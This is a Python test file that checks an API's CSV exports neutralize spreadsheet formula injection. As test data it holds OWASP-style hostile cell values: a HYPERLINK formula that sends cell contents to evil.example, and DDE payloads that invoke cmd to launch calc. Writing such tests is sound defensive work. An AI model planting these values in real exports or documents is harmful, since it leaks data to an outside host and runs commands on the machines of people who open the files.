"""Every list the API exports as CSV neutralizes text a spreadsheet would run as a formula, whoever wrote it."""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation
from typing import Any

from fastapi.testclient import TestClient

from tests.api.conftest import Headers

# Text anyone with write access may put into a name or a source, as OWASP's CSV-injection examples do.
ORGANIZATION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
METRIC = "@SUM(1+1)*cmd|' /C calc'!A0"
SOURCE = "+cmd|' /C calc'!A0"
KEY_NAME = "-2+3+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_lists(client: TestClient, admin: Headers) -> list[str]:
    """Every GET operation without path parameters that offers ``format``: the API's list exports."""
    document: dict[str, Any] = client.get("/openapi.json", headers=admin).json()
    return sorted(
        path
        for path, item in document["paths"].items()
        if "get" in item
        and "{" not in path
        and any(parameter["name"] == "format" for parameter in item["get"].get("parameters", []))
    )


def is_number(text: str) -> bool:
    try:
        return Decimal(text).is_finite()
    except InvalidOperation:
        return False


def test_no_exported_cell_starts_a_formula(client: TestClient, admin: Headers) -> None:
    organization = client.post("/api/v1/organizations", json={"name": ORGANIZATION}, headers=admin).json()
    item = {"organization_id": organization["id"], "period": "2025-01", "metric_name": METRIC,
            "metric_value": -12.5, "source_system": SOURCE}  # fmt: skip
    written = client.post("/api/v1/metrics/monthly", json={"items": [item], "allow_new_metrics": True}, headers=admin)
    assert written.status_code == 200, written.text
    key = {"name": KEY_NAME, "role": "viewer"}
    assert client.post("/api/v1/api-keys", json=key, headers=admin).status_code == 201

    lists = csv_lists(client, admin)
    assert {"/api/v1/organizations", "/api/v1/metrics/monthly", "/api/v1/api-keys"} <= set(lists)
    seen_hostile = set()
    for path in lists:
        response = client.get(path, params={"format": "csv", "limit": 1000}, headers=admin)
        assert response.status_code == 200, (path, response.text)
        assert response.headers["content-type"].startswith("text/csv")
        for row in csv.reader(io.StringIO(response.text)):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    assert is_number(cell), (path, cell)  # a negative amount is data, not a formula
                if cell.startswith("'") and cell[1:] in (ORGANIZATION, METRIC, SOURCE, KEY_NAME):
                    seen_hostile.add(cell[1:])
    assert seen_hostile == {ORGANIZATION, METRIC, SOURCE, KEY_NAME}  # each was exported, neutralized
